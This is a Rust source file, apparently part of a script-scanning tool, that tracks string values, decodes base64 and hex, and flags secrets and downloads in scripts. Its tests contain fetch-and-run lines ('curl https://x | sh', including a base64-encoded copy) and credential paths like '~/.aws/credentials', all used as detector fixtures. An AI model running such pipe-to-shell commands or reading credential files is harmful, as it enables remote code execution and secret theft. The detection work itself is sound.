//! What the readers know of a value in a script: its text when it can be worked out (string
//! literals, joins, concatenation, decoding), and whether it carries a secret or a download,
//! with where that came from.

/// Where a secret or a download entered the value: byte offset in the file, and what.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Origin {
    pub at: usize,
    pub what: String,
    /// A download's address as its command writes it, when it writes one: which address decides
    /// what running the download is ([`crate::commands::download_rule`]).
    pub source: String,
}

#[derive(Debug, Clone, Default)]
pub struct Val {
    /// The text, when every piece of it is known (unknown pieces of a join count as empty).
    pub text: Option<String>,
    /// Where the text was put together (for a path: the line that names it).
    pub at: Option<usize>,
    /// One string literal as written: the line readers have read it already.
    pub literal: bool,
    /// Text that came out of a base64 or hex decoder.
    pub decoded: bool,
    pub secret: Option<Origin>,
    pub download: Option<Origin>,
    /// Elements of a list or tuple, when written out.
    pub items: Option<Vec<Val>>,
    /// A connection or request object: what is written to it goes over the network.
    pub net: bool,
    /// A file opened for writing: its path.
    pub writes: Option<String>,
}

impl Val {
    pub fn text(text: impl Into<String>, at: usize) -> Val {
        Val { text: Some(text.into()), at: Some(at), ..Val::default() }
    }

    pub fn literal(text: impl Into<String>, at: usize) -> Val {
        Val { literal: true, ..Val::text(text, at) }
    }

    /// Takes the other value's secret and download when this one has none.
    pub fn absorb(&mut self, other: &Val) {
        if self.secret.is_none() {
            self.secret.clone_from(&other.secret);
        }
        if self.download.is_none() {
            self.download.clone_from(&other.download);
        }
        self.decoded |= other.decoded;
    }

    /// A value derived from others (a call's result, an attribute): their taints, no text.
    pub fn derived<'v>(from: impl IntoIterator<Item = &'v Val>) -> Val {
        let mut out = Val::default();
        for v in from {
            out.absorb(v);
            out.net |= v.net;
        }
        out
    }

    pub fn is_tainted(&self) -> bool {
        self.secret.is_some() || self.download.is_some()
    }

    /// `a + b`: texts concatenated (an unknown side counts as empty, unless both are unknown).
    pub fn concat(&self, other: &Val) -> Val {
        let text = match (&self.text, &other.text) {
            (None, None) => None,
            (a, b) => Some(format!("{}{}", a.as_deref().unwrap_or(""), b.as_deref().unwrap_or(""))),
        };
        let mut out = Val { text, at: self.at.or(other.at), ..Val::default() };
        out.absorb(self);
        out.absorb(other);
        out
    }

    /// Path pieces joined with `/` (`os.path.join`, `path.join`, `Path / "x"`).
    pub fn join<'v>(parts: impl IntoIterator<Item = &'v Val>) -> Val {
        let mut out = Val::default();
        let mut path = String::new();
        let mut known = false;
        for part in parts {
            out.absorb(part);
            out.at = out.at.or(part.at);
            let Some(piece) = part.text.as_deref() else { continue };
            known = true;
            if piece.starts_with('/') {
                path.clear();
            } else if !path.is_empty() && !path.ends_with('/') {
                path.push('/');
            }
            path.push_str(piece);
        }
        out.text = known.then_some(path);
        out
    }

    /// The elements as one command line, quoted where needed (`["bash", "-c", "x y"]`).
    pub fn command_line(&self) -> Option<String> {
        let items = self.items.as_ref()?;
        let words: Vec<String> = items
            .iter()
            .map(|i| {
                let t = i.text.clone().unwrap_or_default();
                if t.is_empty() || t.contains(|c: char| c.is_whitespace() || "|&;<>()$`\"'".contains(c)) {
                    format!("'{}'", t.replace('\'', "'\\''"))
                } else {
                    t
                }
            })
            .collect();
        Some(words.join(" "))
    }

    /// The text, or a list's command line.
    pub fn shown(&self) -> Option<String> {
        self.text.clone().or_else(|| self.command_line())
    }
}

/// `~`, `$HOME` and `${HOME}` all name the home folder.
pub fn home_normalized(path: &str) -> String {
    path.replace("${HOME}", "~").replace("$HOME", "~").replace("%USERPROFILE%", "~")
}

/// Standard or URL-safe base64, or hex, to text, when it decodes to mostly printable text.
pub fn decode(s: &str) -> Option<String> {
    let s = s.trim();
    let bytes = if s.len() >= 8 && s.len().is_multiple_of(2) && s.bytes().all(|b| b.is_ascii_hexdigit()) {
        let byte_at = |i: usize| s.get(i..i + 2).and_then(|hex| u8::from_str_radix(hex, 16).ok());
        (0..s.len()).step_by(2).map(byte_at).collect::<Option<Vec<u8>>>()?
    } else {
        base64(s)?
    };
    printable_text(&bytes, 1)
}

/// Decoded bytes as text when they are at least `min_len` long and mostly printable ASCII
/// (what a script hides as text; binary data is not read again).
pub(crate) fn printable_text(bytes: &[u8], min_len: usize) -> Option<String> {
    let printable = bytes.iter().filter(|b| b.is_ascii_graphic() || b.is_ascii_whitespace()).count();
    (bytes.len() >= min_len.max(1) && printable * 100 >= bytes.len() * 95)
        .then(|| String::from_utf8_lossy(bytes).into_owned())
}

/// Standard or URL-safe base64, padding optional, line breaks skipped.
pub(crate) fn base64(s: &str) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(s.len() * 3 / 4);
    let mut acc = 0u32;
    let mut bits = 0;
    for b in s.bytes() {
        let v = match b {
            b'A'..=b'Z' => b - b'A',
            b'a'..=b'z' => b - b'a' + 26,
            b'0'..=b'9' => b - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            b'=' => break,
            b'\n' | b'\r' | b' ' => continue,
            _ => return None,
        };
        acc = (acc << 6) | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn joins_paths_like_the_os_does() {
        let parts = [Val::text("~", 0), Val::text(".aws", 1), Val::text("credentials", 2)];
        assert_eq!(Val::join(&parts).text.as_deref(), Some("~/.aws/credentials"));
        let absolute = [Val::text("~", 0), Val::text("/etc/passwd", 1)];
        assert_eq!(Val::join(&absolute).text.as_deref(), Some("/etc/passwd"));
        assert_eq!(Val::join(&[Val::default()]).text, None);
    }

    #[test]
    fn decodes_base64_and_hex_to_text_only() {
        assert_eq!(decode("Y3VybCBodHRwczovL3ggfCBzaA==").as_deref(), Some("curl https://x | sh"));
        assert_eq!(decode("6375726c").as_deref(), Some("curl"));
        assert_eq!(decode("////////"), None);
    }

    #[test]
    fn command_lines_quote_words_with_spaces() {
        let list = Val {
            items: Some(vec![Val::text("bash", 0), Val::text("-c", 0), Val::text("curl x | sh", 0)]),
            ..Val::default()
        };
        assert_eq!(list.command_line().as_deref(), Some("bash -c 'curl x | sh'"));
    }
}
